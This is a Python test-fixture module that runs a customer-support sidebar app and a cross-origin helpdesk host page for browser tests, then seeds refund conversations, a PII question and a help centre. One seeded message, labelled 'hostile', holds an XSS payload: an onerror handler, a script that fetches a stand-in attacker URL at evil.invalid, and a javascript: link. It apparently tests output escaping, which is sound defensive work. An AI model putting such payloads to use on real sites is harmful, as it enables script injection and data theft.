"""The app under uvicorn on a real port, with a seeded shop, PII redaction and a small help centre, plus a
helpdesk host page on another origin: what the sidebar's browser tests run against."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import uvicorn

from knowledge import DEMO_DOCS_DIR
from knowledge.ingest import ingest_bytes
from tools import run_tool
from tools.backends.sql import SqlStoreBackend
from tools.base import ToolContext

TENANT = "sidebar"
HELP_DOCS = (
    "how-to-return-an-item.md",
    "refunds-and-returns-policy.md",
    "tent-setup-and-care.md",
    "tracking-your-order.md",
)
INTERNAL_DOC = b"""# Tent returns: goodwill exceptions

## When to bend the rules

For a tent returned after the 30-day window, staff may offer store credit once per customer. Never promise
this to a customer before a lead agrees.
"""


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def wait_for(check: Callable[[], Any], timeout_s: float = 30.0) -> Any:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if value := check():
            return value
        time.sleep(0.05)
    raise AssertionError("timed out waiting")


def ingest_help_centre(kb: Any, tenant: str = TENANT) -> None:
    """Three public articles (cited by https URL) and one internal document (an `internal/` path)."""
    for name in HELP_DOCS:
        source = f"https://help.northbeam.example/{name.removesuffix('.md')}"
        ingest_bytes(kb, tenant, name, (DEMO_DOCS_DIR / name).read_bytes(), source=source)
    ingest_bytes(
        kb, tenant, "tent-return-exceptions.md", INTERNAL_DOC, source="internal/tent-return-exceptions.md"
    )


def refundable_orders(engine: Any, tenant: str = TENANT) -> list[tuple[str, str]]:
    """(customer, order) pairs the refund policy allows, at most one per customer."""
    backend = SqlStoreBackend(engine)
    found = []
    for customer in backend.list_customers(tenant, query=None, limit=50, offset=0).items:
        profile = backend.customer_profile(tenant, customer.customer_id)
        assert profile is not None
        ctx = ToolContext(tenant=tenant, customer_id=customer.customer_id, backend=backend)
        for order in profile.orders:
            if run_tool("lookup_refund", {"order_number": order.order_number}, ctx)["eligibility"][
                "eligible"
            ]:
                found.append((customer.customer_id, order.order_number))
                break
    return found


def refunds_of(engine: Any, order: str, tenant: str = TENANT) -> int:
    found = SqlStoreBackend(engine).get_order(tenant, order)
    assert found is not None
    return len(found.refunds)


class ThreadedServer:
    def __init__(self, app: Any, port: int) -> None:
        self.port = port
        self.server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> str:
        self.thread.start()
        wait_for(lambda: self.server.started)
        return f"http://127.0.0.1:{self.port}"

    def __exit__(self, *exc_info: object) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=30)


HOST_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>Helpdesk</title></head>
<body>
<h1>Helpdesk ticket</h1>
<textarea id="editor" aria-label="Reply editor"></textarea>
<iframe id="sidebar" title="Deskpilot" width="520" height="900"></iframe>
<script>
  window.received = [];
  window.addEventListener("message", (event) => {
    window.received.push({origin: event.origin, data: event.data});
    if (event.data && event.data.type === "deskpilot.insert") {
      document.getElementById("editor").value = event.data.text;
    }
  });
  document.getElementById("sidebar").src = new URLSearchParams(location.search).get("src");
</script>
</body></html>
"""


class HostPage:
    """A helpdesk on another origin that embeds the sidebar and records the messages it receives."""

    def __init__(self, port: int) -> None:
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                body = HOST_PAGE.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.origin = f"http://127.0.0.1:{port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> HostPage:
        self.thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@dataclass
class Seeded:
    """What the fixture made through the real API: keys by role and conversations by purpose."""

    base: str
    host: HostPage
    keys: dict[str, str] = field(default_factory=dict)
    conversations: dict[str, str] = field(default_factory=dict)
    approvals: dict[str, str] = field(default_factory=dict)
    orders: dict[str, str] = field(default_factory=dict)

    def client(self, role: str) -> httpx.Client:
        return httpx.Client(
            base_url=self.base, headers={"Authorization": f"Bearer {self.keys[role]}"}, timeout=30
        )


def seed_conversations(seeded: Seeded, orders: list[tuple[str, str]]) -> None:
    """A refund per approval test (each pending), a question with PII, and a message carrying HTML/JS."""
    purposes = ("approve", "reject", "elsewhere", "keyboard")
    assert len(orders) >= len(purposes), "the demo shop needs a customer with a refundable order per test"
    with seeded.client("agent") as client:
        for purpose, (customer, order) in zip(purposes, orders, strict=False):
            conversation = client.post("/v1/conversations", json={"customer_id": customer}).json()["id"]
            reply = client.post(
                f"/v1/conversations/{conversation}/messages",
                json={"content": f"I want a refund for {order}, it arrived damaged."},
            ).json()
            assert reply["pending_approval"], reply
            seeded.conversations[purpose] = conversation
            seeded.approvals[purpose] = reply["pending_approval"]
            seeded.orders[purpose] = order
        for purpose, text in {
            "question": (
                "Hi, I'm Dana Whitfield (dana.whitfield@example.com). How do I return a tent I bought?"
            ),
            "hostile": (
                'My tent is torn <img src="http://evil.invalid/pixel.png" onerror="alert(1)">'
                "<script>alert(2);fetch('http://evil.invalid/steal')</script>"
                '<a href="javascript:alert(3)">click</a>'
            ),
        }.items():
            conversation = client.post("/v1/conversations", json={"customer_id": "CUS-1001"}).json()["id"]
            response = client.post(f"/v1/conversations/{conversation}/messages", json={"content": text})
            assert response.status_code == 200, response.text
            seeded.conversations[purpose] = conversation
